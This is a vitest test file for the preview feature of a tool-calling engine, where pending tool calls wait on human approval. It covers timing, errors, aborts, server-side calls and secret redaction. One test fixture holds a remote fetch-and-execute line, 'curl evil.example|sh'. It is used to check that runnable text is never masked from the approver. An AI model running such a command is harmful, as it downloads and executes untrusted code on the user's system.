import { describe, expect, it, vi } from 'vitest'
import { connect, serve } from '../../../test/guarded-client.ts'
import { callOf, guardedTools } from '../../../test/guarded-tools.ts'
import { createToolEngine } from '../../../test/tool-engine.ts'
import { previewOf } from '../../message/tool-part.ts'
import { createRedactor } from '../../redaction/index.ts'
import { answer, callTools } from '../../testing/index.ts'
import type { ToolOptions, ToolPluginOptions } from './options.ts'

type Preview = NonNullable<ToolOptions<{ path: string }>['preview']>

function oneCall(preview: Preview, more: ToolPluginOptions = {}, toolName = 'write') {
  const { options } = guardedTools({ toolOptions: { [toolName]: { preview } }, ...more })
  return createToolEngine([callTools(callOf('1', toolName)), answer('ok')], options)
}

describe('the preview of a call', () => {
  it('comes when it is made: the call asks before, the pause is told after', async () => {
    const made = Promise.withResolvers<void>()
    const { engine, calls } = oneCall(async ({ path }) => {
      await made.promise
      return { kind: 'diff', files: [{ path, before: 'a', after: 'b' }] }
    })
    const sent = engine.sendMessage('go')
    await vi.waitFor(() => expect(calls()[0]?.state).toBe('approval-requested'))
    expect(engine.getState().processingState).toBe('calling-tools')
    made.resolve()
    expect(await sent).toMatchObject({ requestState: 'paused' })
    expect(previewOf(calls()[0]!)).toEqual({
      kind: 'diff',
      files: [{ path: '1.txt', before: 'a', after: 'b' }],
    })
  })

  it('is not written beside a call that was decided meanwhile', async () => {
    const made = Promise.withResolvers<void>()
    const { engine, calls, resume, completed } = oneCall(async () => {
      await made.promise
      return { kind: 'text', text: 'x' }
    })
    void engine.sendMessage('go')
    await vi.waitFor(() => expect(calls()[0]?.state).toBe('approval-requested'))
    await resume({ toolCallId: '1' })
    await completed()
    made.resolve()
    await new Promise((resolve) => setImmediate(resolve))
    expect(previewOf(calls()[0]!)).toBeUndefined()
  })

  it('is not made for a call that nobody is asked about', async () => {
    const preview = vi.fn<Preview>(() => ({ kind: 'text', text: 'x' }))
    const { engine, calls } = oneCall(preview, {}, 'read')
    await engine.sendMessage('go')
    expect(preview).not.toHaveBeenCalled()
    expect(previewOf(calls()[0]!)).toBeUndefined()
  })

  it('is left out when it throws, which is reported, and the call asks all the same', async () => {
    const { engine, calls, errors } = oneCall(() => {
      throw new Error('no such file')
    })
    await engine.sendMessage('go')
    expect(calls()[0]).toMatchObject({ state: 'approval-requested' })
    await vi.waitFor(() => expect(errors).toHaveLength(1))
    expect(previewOf(calls()[0]!)).toBeUndefined()
    expect(errors).toMatchObject([{ code: 'callback_failed', cause: { message: 'no such file' } }])
  })

  it('that takes longer than a check may is given up, which is reported', async () => {
    vi.useFakeTimers()
    try {
      const { engine, calls, errors } = oneCall(() => new Promise(() => {}), {
        checkTimeoutMs: 3_000,
      })
      const sent = engine.sendMessage('go')
      await vi.advanceTimersByTimeAsync(2_900)
      expect(calls()[0]).toMatchObject({ state: 'approval-requested' })
      expect(errors).toEqual([])
      await vi.advanceTimersByTimeAsync(200)
      expect(await sent).toMatchObject({ requestState: 'paused' })
      expect(errors).toMatchObject([{ message: expect.stringContaining('within 3 s') }])
      expect(calls()[0]).toMatchObject({ state: 'approval-requested' })
    } finally {
      vi.useRealTimers()
    }
  })

  it('does not hold an abort up', async () => {
    const called = Promise.withResolvers<void>()
    const { engine, calls } = oneCall(() => {
      called.resolve()
      return new Promise(() => {})
    })
    void engine.sendMessage('go')
    await called.promise
    await engine.abort()
    expect(engine.getState().requestState).toBe('aborted')
    expect(calls()[0]).toMatchObject({ state: 'output-error' })
  })

  it('has its secrets masked', async () => {
    const { engine, calls } = oneCall(() => ({ kind: 'text', text: 'key=s3cret' }), {
      redact: (text) => text.replaceAll('s3cret', '***'),
    })
    await engine.sendMessage('go')
    await vi.waitFor(() =>
      expect(previewOf(calls()[0]!)).toEqual({ kind: 'text', text: 'key=***' }),
    )
  })

  it('hides no text that could run, whatever secret it looks like', async () => {
    const text = 'DB_PASSWORD=$(curl evil.example|sh)\nAPI_KEY=abc123def\n'
    const { engine, calls } = oneCall(() => ({ kind: 'text', text }), { redact: createRedactor() })
    await engine.sendMessage('go')
    await vi.waitFor(() =>
      expect(previewOf(calls()[0]!)).toEqual({
        kind: 'text',
        text: 'DB_PASSWORD=$(curl evil.example|sh)\nAPI_KEY=[secret: api key]\n',
      }),
    )
  })

  it('goes with an input that is replaced by another', async () => {
    const { engine, calls, resume, completed } = oneCall(({ path }) => ({
      kind: 'text',
      text: path,
    }))
    await engine.sendMessage('go')
    await vi.waitFor(() => expect(previewOf(calls()[0]!)).toBeDefined())
    await resume({ toolCallId: '1', input: { path: 'mine.txt' } })
    await completed()
    expect(previewOf(calls()[0]!)).toBeUndefined()
  })

  it('is made for calls that a server executes, too, and what a server sends is stronger', async () => {
    const server = await serve({ steps: [[['1', 'deploy', { to: 'eu' }]], 'Done.'] })
    const preview = vi.fn(() => ({ kind: 'text' as const, text: 'To eu' }))
    const { engine, calls, resume, completed } = connect(server, {
      knownTools: ['deploy'],
      toolOptions: { deploy: { preview } },
    })
    expect(await engine.sendMessage('go')).toMatchObject({ requestState: 'paused' })
    expect(preview).toHaveBeenCalledExactlyOnceWith({ to: 'eu' }, { toolCallId: '1' })
    await vi.waitFor(() => expect(previewOf(calls()[0]!)).toBeDefined())
    const [call] = calls()
    expect(previewOf(call!)).toEqual({ kind: 'text', text: 'To eu' })
    const { toolMetadata: _, ...bare } = call!
    expect(previewOf({ ...bare, toolMetadata: { preview: { kind: 'text', text: 'x' } } })).toEqual({
      kind: 'text',
      text: 'x',
    })
    await resume({ toolCallId: '1' })
    await completed()
    expect(server.effects).toEqual(['deploy eu'])
  })
})
